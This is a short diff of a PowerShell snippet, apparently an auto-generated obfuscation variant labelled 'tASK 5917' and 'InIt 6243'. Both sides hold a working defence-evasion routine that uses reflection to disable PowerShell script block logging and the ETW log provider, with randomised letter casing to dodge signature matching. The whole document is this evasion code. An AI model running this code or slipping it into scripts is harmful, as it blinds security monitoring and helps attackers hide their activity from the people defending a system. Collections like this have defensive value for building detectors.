@@ -1,4 +1,4 @@
-# tASK 5917 V1
-$SEtTINgs = [rEF].AssEMblY.GEtTYPe('System.Management.Automation.Utils').geTfIelD('cachedGroupPolicySettings','NonPublic,Static').GeTVALUe($NUlL)
-$sEttiNgS['HKEY_LOCAL_MACHINE\Software\Policies\Microsoft\Windows\PowerShell\ScriptBlockLogging']['EnableScriptBlockLogging'] = 0
-[rEfLecTiOn.asSEMbly]::lOADwiTHParTIaLnamE('System.Core').geTTyPE('System.Diagnostics.Eventing.EventProvider').GeTfIELD('m_enabled','NonPublic,Instance').SeTValue([ref].assEmbly.geTTyPe('System.Management.Automation.Tracing.PSEtwLogProvider').getfIElD('etwProvider','NonPublic,Static').getVAluE($null),0)
+# InIt 6243 V1
+$SEtTings = [reF].asSeMBly.gEtTyPe('System.Management.Automation.Utils').GetFIeLd('cachedGroupPolicySettings','NonPublic,Static').GeTvalUe($nUlL)
+$SEttIngs['HKEY_LOCAL_MACHINE\Software\Policies\Microsoft\Windows\PowerShell\ScriptBlockLogging']['EnableScriptBlockLogging'] = 0
+[RefLeCTIoN.ASsEMBLy]::lOADwIThpartIALnAME('System.Core').gettYPe('System.Diagnostics.Eventing.EventProvider').gEtFiElD('m_enabled','NonPublic,Instance').sEtVaLuE([reF].AssEmblY.geTtyPE('System.Management.Automation.Tracing.PSEtwLogProvider').GETFiELd('etwProvider','NonPublic,Static').GEtvAlUe($nULl),0)
